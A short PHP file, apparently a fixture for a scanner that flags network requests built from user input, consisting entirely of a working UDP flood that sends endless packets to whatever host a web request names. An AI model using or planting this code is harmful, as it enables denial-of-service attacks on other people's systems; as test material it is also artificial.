<?php
// want: php_request_network
$host = $_GET['host'];
while (true) {
    $fp = fsockopen('udp://' . $host, rand(1, 65535));
    fwrite($fp, str_repeat('X', 1024));
}
